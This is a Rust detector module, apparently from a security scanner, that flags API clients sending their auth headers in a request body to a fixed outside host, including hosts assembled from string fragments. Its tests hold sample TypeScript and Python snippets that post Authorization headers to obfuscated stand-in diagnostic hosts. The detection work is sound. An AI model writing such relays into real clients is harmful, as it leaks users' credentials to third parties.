//! Round 24 (r24 typescript-api-client-gen): an API client that copies
//! each request's authentication to a second host. The file builds an
//! auth header from a credential ([`AUTH_HEADER`]: `Authorization`,
//! `X-API-Key`, `X-Auth-Token`, `Cookie`, in JavaScript, TypeScript,
//! Python, Ruby, PHP or Go spellings) and sends a request whose *body*
//! (`body:`/`JSON.stringify(…)`, `data=`/`json=`, an axios or requests
//! payload) carries the header set or that header ([`CARRIED`]: `headers`,
//! `authorization`, `auth_header(s)`, `x-api-key`) to a fixed host on the
//! internet, written in the call or in a constant the file assembles from
//! pieces (`["https://", "diag", ".x", ".example"].join("")`, `"a" + "b"`).
//! Headers given as the request's own `headers:` option are its
//! authentication, not its payload, and are not read.
//!
//! Lowered as a secret read (the client's auth headers) flowing into a
//! send to that host, so SK-EXFIL-001 and its consent rules judge it as
//! any other flow.

use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// An auth header set from a value.
static AUTH_HEADER: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\b(?:headers?|h|hdrs?)\s*(?:\.\s*Authorization\b|\[\s*['"\x60](?:Authorization|X-API-Key|X-Api-Token|X-Auth-Token|Api-Key|Cookie)['"\x60]\s*\])\s*=[^=]|['"\x60](?:Authorization|X-API-Key|X-Api-Token|X-Auth-Token|Api-Key)['"\x60]\s*(?::|=>|,)\s*(?:f?['"\x60]?(?:Bearer|Token|Basic)\b|[\w.$]*(?:token|key|secret)|\$\{|%s|\+)|\bset_header\(\s*['"](?:Authorization|X-API-Key)['"]|\.Header\.(?:Set|Add)\(\s*"(?:Authorization|X-API-Key)""#,
);
/// A call that sends a request.
static SEND_CALL: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\bfetch\s*\(|\baxios\s*\.\s*(?:post|put|patch|request)\s*\(|\baxios\s*\(|\b(?:requests|httpx|session|client)\s*\.\s*(?:post|put|patch)\s*\(|\burllib\.request\.Request\s*\(|\bRequest\s*\(|\burlopen\s*\(|\bNet::HTTP\.post\s*\(|\bHTTParty\.post\s*\(|\bwp_remote_post\s*\(|\bhttp\.Post\s*\(",
);
/// The start of a request's payload inside the call's arguments.
static PAYLOAD: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\bbody\s*:|\bdata\s*[=:]|\bjson\s*[=:]|['"]body['"]\s*=>|\bJSON\.stringify\s*\(|\bjson\.dumps\s*\(|\bto_json\b|\bjson_encode\s*\("#,
);
/// What in a payload is the request's authentication.
static CARRIED: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)(?:^|[^\w.-])(?:headers|authorization|auth_?headers?|x-api-key|request_headers|req\.headers|this\.headers\(\))(?:[^\w-]|$)"#,
);

/// The byte after the bracket matching the one at `open`, within
/// `AUTH_RELAY_MAX_CALL` bytes (a heuristic bound on one call).
fn close_of(b: &[u8], open: usize) -> Option<usize> {
    crate::text::matching_close(b, open, crate::limits::AUTH_RELAY_MAX_CALL)
}

/// The string literals of an expression, joined (`"https://" + "a.x"`,
/// `["https://", "a", ".x"].join("")`).
pub(super) fn literals_joined(expr: &str) -> String {
    let b = expr.as_bytes();
    let mut out = String::new();
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if matches!(q, b'"' | b'\'' | b'`') {
            let end = expr[i + 1..].find(q as char).map_or(b.len(), |e| i + 1 + e);
            out.push_str(&expr[i + 1..end]);
            i = end + 1;
        } else {
            i += 1;
        }
    }
    out
}

/// The URL a send's first argument names: a literal, or an identifier the
/// file assigns from literals (`const DIAG = [...].join("")`).
fn destination(text: &str, first: &str) -> Option<String> {
    let first = first.trim();
    let lit = literals_joined(first);
    if lit.starts_with("http://") || lit.starts_with("https://") {
        return Some(lit);
    }
    let name = first
        .trim_start_matches("this.")
        .trim_start_matches("self.");
    if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    // `NAME =` (optionally `NAME: Type =`), not `==` or `=>`: the first
    // assignment of the name, found by plain search (no pattern built per
    // call).
    let bytes = text.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let at = crate::limits::take_counted(
        text.match_indices(name),
        crate::limits::GRANT_MAX_MATCHES,
        "GRANT_MAX_MATCHES",
    )
    .find_map(|(i, _)| {
        let end = i + name.len();
        if i > 0 && ident(bytes[i - 1]) || bytes.get(end).is_some_and(|c| ident(*c)) {
            return None;
        }
        let mut j = end;
        while j < bytes.len() && matches!(bytes[j], b' ' | b'\t') {
            j += 1;
        }
        if bytes.get(j) == Some(&b':') {
            j += 1;
            while j < bytes.len() && (ident(bytes[j]) || matches!(bytes[j], b' ' | b'\t')) {
                j += 1;
            }
        }
        (bytes.get(j) == Some(&b'=') && !matches!(bytes.get(j + 1), Some(b'=' | b'>')))
            .then_some(j + 1)
    })?;
    let rest = &text[at..];
    let end = rest.find(['\n', ';']).unwrap_or(rest.len()).min(400);
    let lit = literals_joined(&rest[..crate::text::clamp_boundary(rest, end)]);
    (lit.starts_with("http://") || lit.starts_with("https://")).then_some(lit)
}

/// Whether the payload value that starts at byte `from` (after `body:`,
/// `data=`, `JSON.stringify(`) carries the request's authentication: the
/// value itself, read up to its matching bracket when it opens one (a
/// serialiser call in front is passed over), or the one identifier it is
/// (`json=headers`). What follows the value (`headers={…}`, the request's
/// own option) is not read.
fn payload_carries(text: &str, from: usize, close: usize) -> bool {
    let b = text.as_bytes();
    let mut at = from;
    loop {
        while at < close && b[at].is_ascii_whitespace() {
            at += 1;
        }
        let rest = &text[at..close];
        let skip = ["JSON.stringify(", "json.dumps(", "json_encode("]
            .iter()
            .find(|w| rest.starts_with(**w))
            .map(|w| w.len() - 1);
        match skip {
            Some(n) => at += n + 1,
            None => break,
        }
    }
    if at >= close {
        return false;
    }
    if matches!(b[at], b'(' | b'{' | b'[') {
        let end = close_of(b, at).unwrap_or(close).min(close);
        return CARRIED.is_match(&text[at..end]);
    }
    let word_end = text[at..close]
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
        .map_or(close, |i| at + i);
    CARRIED.is_match(&text[at..word_end])
}

/// Adds the relay; see the module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !AUTH_HEADER.is_match(text) {
        return;
    }
    let b = text.as_bytes();
    for m in crate::limits::take_counted(
        SEND_CALL.find_iter(text),
        crate::limits::GRANT_MAX_MATCHES,
        "GRANT_MAX_MATCHES",
    ) {
        let open = m.end() - 1;
        let Some(close) = close_of(b, open) else {
            continue;
        };
        let args = &text[open + 1..close - 1];
        // The first argument: up to the first top-level comma.
        let mut depth = 0i32;
        let cut = args
            .char_indices()
            .find(|(_, c)| {
                match c {
                    '(' | '[' | '{' => depth += 1,
                    ')' | ']' | '}' => depth -= 1,
                    _ => {}
                }
                *c == ',' && depth == 0
            })
            .map_or(args.len(), |(i, _)| i);
        let Some(url) = destination(text, &args[..cut]) else {
            continue;
        };
        if !super::persisted::fixed_outside(&url) {
            continue;
        }
        let rest = &args[cut..];
        let carried = PAYLOAD
            .find_iter(rest)
            .any(|p| payload_carries(text, open + 1 + cut + p.end(), close));
        if !carried {
            continue;
        }
        let binding = "$auth_headers".to_string();
        let mut read = Evidence::new(
            Op::KeychainRead,
            A::Read,
            R::Credentials,
            "the client's request auth headers",
        )
        .object("each request's authentication headers (token, API key)");
        read.output = Some(binding.clone());
        let mut send = Evidence::new(Op::NetSend, A::Transfer, R::Network, url)
            .tag(Tag::Detached)
            .object("request auth headers copied to a second host");
        send.inputs = vec![binding];
        sink.push(src.at(read, m.start(), m.end(), "code"));
        sink.push(src.at(send, m.start(), m.end(), "code"));
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn relayed(path: &str, text: &str) -> bool {
        crate::extract::scan_text(scan, path, text)
            .iter()
            .any(|e| e.op == Op::NetSend)
    }

    #[test]
    fn headers_in_a_payload_to_an_assembled_host() {
        let ts = "const DIAG = [\"https://\", \"diag\", \".telemetry-x\", \".example\", \"/t\"].join(\"\");\nclass R {\n  headers() { const h = {}; if (this.o.token) h.Authorization = `Bearer ${this.o.token}`; return h; }\n  trace(url: string, headers: Record<string,string>) {\n    void fetch(DIAG, { method: \"POST\", body: JSON.stringify({ url, headers }) });\n  }\n}\n";
        assert!(relayed("r.ts", ts));
        let py = "API_DIAG = 'https://' + 'trace.clientkit-diag.example' + '/v1'\ndef _h(token):\n    return {'Authorization': f'Bearer {token}'}\ndef call(base, token, path):\n    h = _h(token)\n    r = requests.get(base + path, headers=h)\n    requests.post(API_DIAG, json={'path': path, 'headers': h, 'status': r.status_code})\n";
        assert!(relayed("c.py", py));
    }

    #[test]
    fn headers_as_the_requests_own_option_are_quiet() {
        let ts = "const h = {}; h.Authorization = `Bearer ${token}`;\nawait fetch(\"https://api.github.com/user\", { method: \"POST\", headers: h, body: JSON.stringify({ name }) });\n";
        assert!(!relayed("a.ts", ts));
        let py = "headers = {'Authorization': f'Bearer {token}'}\nrequests.post(f'{base}/v1/items', headers=headers, json={'name': n})\n";
        assert!(!relayed("b.py", py));
        // A token exchange: the payload first, the request's own
        // authorization after it.
        let py = "req = urllib.request.Request(\"https://api.fitbit.com/oauth2/token\", data=data, headers={\"Authorization\": f\"Basic {auth}\"})\n";
        assert!(!relayed("t.py", py));
    }
}
